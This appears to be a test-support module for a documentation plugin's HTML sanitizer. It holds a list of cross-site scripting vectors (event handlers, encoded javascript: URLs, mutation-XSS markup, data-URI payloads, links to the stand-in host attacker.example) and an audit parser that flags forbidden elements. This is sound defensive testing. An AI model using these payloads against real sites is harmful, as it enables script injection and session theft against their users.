"""Cross-site scripting vectors written as post-mortem bodies, and an audit of sanitized HTML.

The vectors are written for this project after the classes of the OWASP XSS Filter Evasion
Cheat Sheet and of html5sec.org: event attributes, script-capable elements, URL schemes
spelled with entities, blanks and control characters, mutation through foreign content
(``<math>``, ``<svg>``), elements that load from elsewhere (``<base>``, ``<link>``,
``@import``), markup split over lines, Markdown links and attr_list. Each runs
``alert(...)`` or asks ``attacker.example`` for something if it gets through.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from conftest import VALID

ATTACKER = "attacker.example"

VECTORS: tuple[str, ...] = (
    "<script>alert('script')</script>",
    f"<SCRIPT SRC=https://{ATTACKER}/xss.js></SCRIPT>",
    "<scr<script>ipt>alert('nested')</script>",
    "<img src=x onerror=alert('onerror')>",
    "<IMG SRC=# onmouseover=\"alert('mouseover')\">",
    '<img """><script>alert("quotes")</script>">',
    "<IMG SRC=JaVaScRiPt:alert('case')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('dec')>",
    "<a href=\"&#x6A;avascript:alert('hex')\">entity</a>",
    "<a href=\"jav\tascript:alert('tab')\">tab</a>",
    "<a href=\"jav&#x09;ascript:alert('enctab')\">encoded tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('encnl')\">encoded newline</a>",
    "<a href=\" javascript:alert('space')\">leading space</a>",
    "<a href=\"&#14;  javascript:alert('ctrl')\">control</a>",
    "<a href=\"javascript&colon;alert('colon')\">named colon</a>",
    "<svg/onload=alert('svg')>",
    "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert('math')&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('mxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<template><img src=x onerror=alert('template')></template>",
    f'<base href="https://{ATTACKER}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'refresh\')">',
    "<form action=\"javascript:alert('form')\"><button>go</button></form>",
    "<object data=\"javascript:alert('object')\"></object>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgnb2JqJyk8L3NjcmlwdD4="></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZW1iZWQnKTwvc2NyaXB0Pg==">',
    "<iframe srcdoc=\"&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;\"></iframe>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<details open ontoggle=alert('toggle')><summary>more</summary>text</details>",
    f"<style>@import 'https://{ATTACKER}/x.css';</style>",
    f'<link rel=import href="https://{ATTACKER}/x.html">',
    f'<link rel=stylesheet href="https://{ATTACKER}/x.css">',
    "<body onload=alert('body')>",
    "<input autofocus onfocus=alert('focus')>",
    "<marquee onstart=alert('marquee')>x</marquee>",
    "<video><source onerror=alert('video')></video>",
    "<audio src=x onerror=alert('audio')>",
    "<div style=\"background:url(javascript:alert('css'))\">css</div>",
    f'<div style="background:url(https://{ATTACKER}/bg.png)">bg</div>',
    "<a href=\"data:text/html,<script>alert('data')</script>\">data</a>",
    "<a href=\"vbscript:msgbox('vb')\">vb</a>",
    f'<a href="https://{ATTACKER}/" ping="https://{ATTACKER}/ping">ping</a>',
    '<a href="#" onclick="alert(\'click\')">click</a>',
    # Split over lines: one line at a time, none of these looks like markup.
    "<img src=x onerror\n=\"alert('split-attr')\">",
    "<svg><animate onbegin\n=alert('split-animate') attributeName=x dur=1s>",
    "<a href=\n\"javascript:alert('split-href')\">split href</a>",
    "[split link](\njavascript:alert('split-md'))",
    "<a href=\"java\nscript:alert('split-scheme')\">split scheme</a>",
    # Markdown's own links and attr_list.
    "[link](javascript:alert('md'))",
    "![image](javascript:alert('md-img'))",
    "[reference][evil]\n\n[evil]: javascript:alert('ref')",
    "<javascript:alert('autolink')>",
    "A paragraph with attributes.\n{: onmouseover=\"alert('attr-list')\" }",
    "## Heading <img src=x onerror=alert('heading')>",
    '## Heading <img src="x" onerror="alert(1)"> quoted',
    '<p id="__config">{"base": "https://attacker.example/", "features": []}</p>',
)


#: Vectors a check of one line at a time never saw: a page of these alone was published
#: with them live.
UNSEEN_LINE_BY_LINE: tuple[str, ...] = (
    f'<base href="https://{ATTACKER}/">',
    f"<style>@import 'https://{ATTACKER}/x.css';</style>",
    f'<link rel=stylesheet href="https://{ATTACKER}/x.css">',
    "<svg><animate onbegin\n=alert('split-animate') attributeName=x dur=1s>",
    "<a href=\n\"javascript:alert('split-href')\">split href</a>",
    "[split link](\njavascript:alert('split-md'))",
    "<a href=\"java\nscript:alert('split-scheme')\">split scheme</a>",
)


def body(vectors: tuple[str, ...]) -> str:
    """A valid post-mortem with ``vectors`` after its action-items table: an unclosed
    element there (the corpus has many) takes in no other section, so the page's own
    blocks stay where a test looks for them."""
    return f"{VALID}\n" + "\n\n".join(vectors) + "\n"


def bodies(per_page: int) -> list[str]:
    """The vectors as a few post-mortems (:func:`body`), ``per_page`` vectors each."""
    return [body(VECTORS[start : start + per_page]) for start in range(0, len(VECTORS), per_page)]


URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "ping"})
SCHEMES = frozenset({"http", "https", "mailto"})
FORBIDDEN = frozenset(
    {
        *("script", "style", "base", "iframe", "object", "embed", "form", "meta", "link"),
        *("svg", "math", "input", "button", "body", "template", "noscript", "frame"),
    }
)


class Audit(HTMLParser):
    """What sanitized HTML must never hold, found with the standard library's parser: an
    element, an attribute or a URL scheme outside the allowlist."""

    def __init__(self, tags: frozenset[str], attributes: dict[str, frozenset[str]]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = tags, attributes
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags or tag in FORBIDDEN:
            self.problems.append(f"<{tag}>")
        allowed = self.attributes.get("*", frozenset()) | self.attributes.get(tag, frozenset())
        for name, value in attrs:
            if name not in allowed or name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                # As a browser's URL parser reads it: blanks and controls around it, tabs
                # and line breaks inside it, dropped.
                url = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(33))))).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
                if scheme and scheme[1] not in SCHEMES:
                    self.problems.append(f"{scheme[1]}: in {name}= of <{tag}>")
            if name == "style" and value and re.search(r"url\(|expression|@import", value):
                self.problems.append(f"style {value!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data[:40]!r}")


def audit(html: str) -> list[str]:
    from mkdocs_postmortems.core.sanitize import ATTRIBUTES, GLOBAL_ATTRIBUTES, TAGS

    parser = Audit(TAGS, {"*": GLOBAL_ATTRIBUTES, **ATTRIBUTES})
    parser.feed(html)
    parser.close()
    return parser.problems
